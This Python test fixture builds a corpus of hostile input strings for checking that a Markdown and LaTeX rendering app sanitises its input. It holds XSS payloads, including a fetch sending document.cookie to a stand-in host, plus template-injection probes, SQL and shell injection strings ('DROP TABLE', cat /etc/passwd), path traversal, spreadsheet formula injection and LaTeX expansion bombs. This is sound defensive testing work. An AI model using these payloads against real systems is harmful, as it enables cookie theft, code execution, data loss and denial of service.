"""More than 500 strings that mean harm, by families. None may run, ask elsewhere, or take a second.

A script that ran would set window.hacked, open a dialog or ask ELSEWHERE; the tests look for all three,
and for every violation of the content security policy, which would mean that markup came through."""

from __future__ import annotations

from itertools import cycle

ELSEWHERE = "//elsewhere.example/"
ACTS = ("window.hacked=1", "alert(1)", f"fetch('{ELSEWHERE}'+document.cookie)", "top.hacked=1")
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script >", "<img src=x onerror={}>",
    "<img src=x onerror='{}'//", "<svg onload={}>", "<svg/onload={}//", "<body onload={}>",
    "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>x</marquee>", "<form action=javascript:{}><button>x</button></form>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>", "<svg><animate onbegin={} attributeName=x>",
    "<svg><script>{}</script></svg>", "<template><script>{}</script></template>", "<noscript><img src=x onerror={}>",
    "<div hx-on:load={} hx-trigger=load>x</div>", "<button data-do=submit onclick={}>x</button>",
    "<x contenteditable onfocus={} autofocus tabindex=1>", "<style onload={}></style>", "<link rel=stylesheet onload={}>",
)  # fmt: skip
BEFORE = ("", "'>", '">', "-->", "</textarea>", "</title>", "</script>", '\\">', "]]>", "`${`")
OUTWARD = (
    "<script src={0}x.js></script>", "<img src={0}pixel.png>", "<link rel=stylesheet href={0}x.css>",
    "<link rel=prefetch href={0}>", "<base href={0}>", "<meta http-equiv=refresh content='0;url={0}'>",
    "<style>@import '{0}x.css';</style>", "<div style=background:url({0}x)>x</div>", "<iframe src={0}></iframe>",
    "<svg><use href={0}x.svg#a /></svg>", "<svg><image href={0}x.png /></svg>", "<video poster={0}x.png>",
    "<div hx-get={0} hx-trigger=load>x</div>", "<div data-hx-post={0} data-hx-trigger=load>x</div>",
    "<object data={0}></object>", "<a ping={0} href={0}>x</a>", "<form action={0}><input name=q></form>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", "&#106;avascript:{}", "\x01javascript:{}",
    "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)  # fmt: skip
MARKDOWN = (
    "[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", '[x](<{}> "t")', "- [x]({})", "> [x]({})", "| [x]({}) |\n| --- |",
)  # fmt: skip
FORMULAS = (
    "\\href{javascript:window.hacked=1}{x}", "\\url{javascript:window.hacked=1}", "\\includegraphics{//elsewhere.example/x.png}",
    "\\htmlClass{x\" onload=window.hacked=1}{x}", "\\htmlId{desk}{x}", "\\htmlStyle{background:url(//elsewhere.example/)}{x}",
    "\\htmlData{do=submit}{x}", "\\text{<script>window.hacked=1</script>}", "\\color{red;background:url(//elsewhere.example/)}x",
    "\\textcolor{expression(alert(1))}{x}", "\\colorbox{url(//elsewhere.example/)}{x}", "\\unicode{<img src=x onerror=alert(1)>}",
    "\\def\\a{\\a\\a}\\a", "\\def\\a{\\b}\\def\\b{\\a}\\a", "\\newcommand\\a{x\\a}\\a", "\\let\\a=\\b\\let\\b=\\a\\a",
    "\\gdef\\a#1{\\a{#1#1}}\\a{x}", "\\edef\\a{\\a\\a}\\a", "\\rule{100000em}{100000em}", "\\rule{1e9em}{1px}",
    "\\kern1000000em x", "\\hspace{-99999em}x", "\\mathllap{x}\\hskip999999pt", "\\raisebox{99999em}{x}", "x\\\\[99999em]y",
    "\\def\\arraystretch{9999}\\begin{array}{c}1\\\\2\\end{array}", "\\genfrac(]{99999em}{}{1}{2}", "\\char\"1F4A9 \\char'0 \\char-1",
    "\\verb|<img src=x onerror=alert(1)>|", "\\tag{<script>}x", "\\begin{<script>}x\\end{<script>}", "\\unknown{x}", "\\", "\\\\",
    "{", "}", "{}", "^", "_", "^^^", "x^", "\\frac", "\\frac{1}", "\\left(", "\\right)", "\\begin{matrix}", "\\end{matrix}", "&", "#", "%",
    "\\mbox{$x$}", "\\text{$\\text{$x$}$}", "\\operatorname{\u202ealert}", "\\pmod{\\pmod{\\pmod{x}}}", "\\xrightarrow[\\sum]{\\int}",
)  # fmt: skip
NESTED = ("{{{}}}", "\\frac{{{}}}{{2}}", "\\sqrt{{{}}}", "\\overline{{{}}}", "x^{{{}}}", "\\left({}\\right)", "\\text{{{}}}", "\\Huge{{{}}}",
          "\\begin{{array}}{{c}}{}\\end{{array}}", "\\underbrace{{{}}}")  # fmt: skip
REPEATED = (
    "x^2 + ",
    "\\alpha",
    "\\frac{1}{2}",
    "\\sum_{i=1}^n",
    "x & ",
    "\\\\",
    "\\quad",
    "\\begin{matrix}1\\end{matrix}",
    "'",
    "\\ ",
)
SCRIPTS = (
    "\u202etxt.exe\u202c", "\u202e\u202e\u202e", "\u2066\u2067\u2068x", "\u200b" * 500, "\ufeffx", "e" + "\u0301" * 1000,
    "Z\u0351\u036b\u0343\u036a\u0302" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200, "\ufdfd" * 300, "\u3164",
    "\u00ad" * 3000, "\u00a0" * 500, "\uffff\ufffe", "\U000e0041\U000e007f", "\ue000\uf8ff", "\u2028x\u2029y", "\x0b\x0c\x1b[31m",
    "".join(chr(code) for code in range(1, 32)), "\x7f\x80\x9f", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02ba onload=alert(1)",
    "\u0130\u0131\u017f\u212a", "\u0e47" * 500, "\u1160" * 200, "\U0001d7d8\U0001d7d9", "\u180e\u2060\u2061", "\u0600" * 100,
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 7 }}", "{{7*'7'}}", "{% include '/etc/passwd' %}", "{%raw%}{{x}}{%endraw%}", "{{ config }}", "{{ request }}", "{{ self }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)",
    "{0.__class__}", "{0!r:>99999999}", "%s%s%n%x", "%(x)s", "`id`", "$(id)", "; cat /etc/passwd", "| id", "&& id", "{{constructor.constructor('alert(1)')()}}",
    "${{<%[%'\"}}%\\", "[[${7*7}]]", "~{::x}", "{#", "#}", "{%",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE problem; --", "1; SELECT pg_sleep(10)", "' UNION SELECT null,null--", "\\'; --", "$$; SELECT 1; $$", "%' AND 1=1 --", "%",
    "_", "%_%_%_%_%", "a & | !", "'a' <-> 'b'", ":*", "!!!", "((((", "\" OR \"\"=\"", "/* */", "--", ";", "E'\\\\000'", "admin'--", "1/0",
)  # fmt: skip
NOTHING = (
    " ", "\n", "\t", "null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "0", "-0", "-1", "00", "1e999", "-1e999",
    "0x10", "9" * 400, "[]", "{}", "[object Object]", "\\0", "\\u0000", "%00", "&#0;", "&nbsp;", "&amp;lt;script&amp;gt;", "constructor", "__proto__",
    "toString", "hasOwnProperty", "'", '"', "\\\\", "-", ".", "..", "/", "//", "?", "#", "&", "=", "+", "<", ">", "<>", "</", "<!--", "<!", "<?php echo 1 ?>",
)  # fmt: skip
ELSE = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"//elsewhere.example/\")", "\r\nSet-Cookie: hacked=1", "%0d%0aLocation: //elsewhere.example/",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "/dev/zero", "CON", "a\r\n\r\n<script>alert(1)</script>", "http://[::1]/", "\\\\elsewhere.example\\x",
    "data:,x", "//elsewhere.example/", "javascript:alert(1)", "x@[127.0.0.1]", "<elsewhere.example>", "https://elsewhere.example/?q=<script>", "mailto:x?bcc=y",
)  # fmt: skip
LONG = tuple(
    part * 4000
    for part in (
        "A",
        "a ",
        "|",
        "`",
        "#",
        "> ",
        "- ",
        "[",
        "](",
        "*",
        "_",
        "$",
        "$x$ ",
        "\\",
        "\\(",
        "\\begin{",
        "{",
        "<",
        "&",
        "\n",
        "\r\n",
        "|-|\n",
        '"',
        "$$",
    )
)


def xss() -> list[str]:
    acts = cycle(ACTS)
    tags = [before + tag.format(next(acts)) for before in BEFORE[:6] for tag in TAGS]
    return tags + [before + tag.format(ELSEWHERE) for before in BEFORE[::3] for tag in OUTWARD]


def markdown() -> list[str]:
    addresses = [address.format("window.hacked=1") for address in ADDRESSES]
    fences = ['```"><script>window.hacked=1</script>\nx\n```', "~~~html\n<img src=x onerror=alert(1)>\n~~~"]
    return [
        form.format(address) for form, address in zip(cycle(MARKDOWN), addresses * 4, strict=False)
    ] + fences


def formulas() -> list[str]:
    """In each kind of delimiter, the whole set in turn; then what nests, repeats and multiplies."""
    around = cycle(("${}$", "$${}$$", "\\({}\\)", "\\[{}\\]"))
    texts = [next(around).format(formula) for formula in FORMULAS]
    for shape in NESTED:
        for depth in (12, 58, 1000):
            formula = "x"
            for _ in range(depth):
                formula = shape.format(formula) if len(formula) < 20_000 else formula
            texts.append(f"${formula}$")
    texts += [f"${part * count}$" for part in REPEATED for count in (150, 3000)]
    texts += [f"\\begin{{pmatrix}}{part * 300}\\end{{pmatrix}}" for part in REPEATED[:5]]
    multiplied = "".join(
        f"\\def\\{a}{{{f'{chr(92)}{b}' * 10}}}" for a, b in zip("abcdef", "bcdefg", strict=True)
    )
    return [
        *texts,
        f"${multiplied}\\def\\g{{xxxxxxxxxx}}\\a$",
        "$\\$" * 500,
        "\\boxed{" * 500,
        "\\boxed{" + "{" * 3000,
    ]


FAMILIES = {
    "xss": xss(), "markdown": markdown(), "formulas": formulas(), "scripts": list(SCRIPTS), "templates": list(TEMPLATES),
    "queries": list(QUERIES), "nothing": list(NOTHING), "else": list(ELSE), "long": list(LONG),
}  # fmt: skip
CORPUS = list(dict.fromkeys(string for family in FAMILIES.values() for string in family))
UNSTORABLE = ("\x00", "a\x00b", "\ud800", "\udfff\ud800x", "\x00<script>alert(1)</script>")
"""What no database keeps: refused or cleaned where it comes in, never a failure."""
